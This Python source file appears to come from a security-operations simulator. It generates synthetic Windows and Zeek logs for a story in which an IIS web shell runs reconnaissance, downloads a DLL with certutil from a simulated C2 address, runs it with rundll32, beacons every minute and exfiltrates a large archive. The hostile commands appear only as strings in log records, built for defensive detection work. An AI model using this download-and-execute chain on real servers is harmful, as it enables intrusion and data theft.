"""Story e: a web shell on the IIS server, then beaconing to a new address range.

The IIS worker (``w3wp.exe``) starts ``cmd.exe`` for reconnaissance (``whoami``), downloads a
DLL with ``certutil``, and runs it with ``rundll32``; the implant then calls home to a /24 the
server never talked to, on an unusual port, about once a minute with jitter, and finally sends
out a large archive.  Zeek sees every connection; Sysmon 3 logs the implant's first ones.
"""

from __future__ import annotations

import random
from datetime import date

from autosoc.simulate import ipplan
from autosoc.simulate.clock import HOUR, MINUTE, SECOND, day_start
from autosoc.simulate.org import Organisation
from autosoc.simulate.stories.base import Story
from autosoc.simulate.windows import catalog as C
from autosoc.simulate.windows.events import SYSTEM_SID, Proc, WinLog
from autosoc.simulate.zeek import conn

PORT = 8443
INETSRV = "c:\\windows\\system32\\inetsrv\\"
DLL = "C:\\ProgramData\\IISCache\\iisext.dll"


def build(org: Organisation, day: date, rng: random.Random) -> Story:
    web = org.servers("web")[0]
    c2 = ipplan.C2_NET.pick(rng)
    story = Story("e-web-beacon", "e", "Web shell on the IIS server, beaconing to a new /24",
                  [f"host:{web.fqdn}", f"ip:{web.ip}", f"ip:{c2}"],
                  [f"first-seen outbound /24 ({c2.rsplit('.', 1)[0]}.0/24) for the web server, on port {PORT}",
                   "periodic connections (about 60 s, low jitter) to one address",
                   "unusually large bytes out from the web server",
                   "IIS worker spawning a shell"])
    us = day_start(day) + rng.randrange(1 * HOUR, 20 * HOUR)
    log = WinLog(web, rng, story.add(("windows", web.name), "web shell"), seed=org.seed)
    w3wp = Proc(log.new_guid(us - 2 * HOUR), rng.randrange(3000, 9000, 4), C.IMAGES["w3wp"],
                'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "CustomerPortal" -v "v4.0" -l "webengine4.dll"',
                "IIS APPPOOL\\CustomerPortal", log.system_logon_guid, "0x3e7", 0, "High",
                "C:\\Windows\\system32\\", log.services, SYSTEM_SID)
    for i, cmd in enumerate(("whoami", "whoami /priv", "ipconfig /all", "net group \"domain computers\" /domain")):
        shell = log.spawn(us + i * MINUTE, w3wp, C.IMAGES["cmd"], f'cmd.exe /c "{cmd}"', cwd=INETSRV,
                          audit=True)
        tool = cmd.split()[0]
        log.spawn(us + i * MINUTE + SECOND, shell, C.IMAGES.get(tool, C.IMAGES["whoami"]), cmd, audit=True)
    us += 6 * MINUTE
    log.emit = story.add(("windows", web.name), "tool download")
    shell = log.spawn(us, w3wp, C.IMAGES["cmd"],
                      f'cmd.exe /c "certutil -urlcache -split -f http://{c2}/iisext.dll {DLL}"',
                      cwd="c:\\windows\\system32\\inetsrv\\", audit=True)
    certutil = log.spawn(us + SECOND, shell, "C:\\Windows\\System32\\certutil.exe",
                         f"certutil  -urlcache -split -f http://{c2}/iisext.dll {DLL}", audit=True)
    log.network(us + 2 * SECOND, certutil, web.ip, c2, 80)
    log.file_create(us + 3 * SECOND, certutil, DLL)
    zeek = story.add(("zeek",), "tool download")
    zeek(us + 2 * SECOND, conn(rng, us + 2 * SECOND, web.ip, c2, 80, service="http", orig_bytes=180,
                               resp_bytes=rng.randrange(180_000, 400_000)))
    us += 2 * MINUTE
    log.emit = story.add(("windows", web.name), "implant")
    implant = log.spawn(us, shell, C.IMAGES["rundll32"], f'rundll32.exe {DLL},ServiceMain', audit=True)
    zeek = story.add(("zeek",), "beaconing")
    beats = rng.randrange(240, 420)
    for i in range(beats):
        us += int(60 * SECOND * rng.uniform(0.85, 1.15))
        if i < 20:
            log.network(us, implant, web.ip, c2, PORT)
        zeek(us, conn(rng, us, web.ip, c2, PORT, duration=round(rng.uniform(0.2, 1.5), 6),
                      orig_bytes=rng.randrange(350, 900), resp_bytes=rng.randrange(200, 700)))
    us += int(60 * SECOND * rng.uniform(0.85, 1.15))
    story.add(("zeek",), "exfiltration")(
        us, conn(rng, us, web.ip, c2, PORT, duration=round(rng.uniform(300, 900), 3),
                 orig_bytes=rng.randrange(400_000_000, 900_000_000), resp_bytes=rng.randrange(20_000, 90_000)))
    story.details = {"web_server": web.fqdn, "c2": c2, "port": PORT, "beacons": beats}
    return story
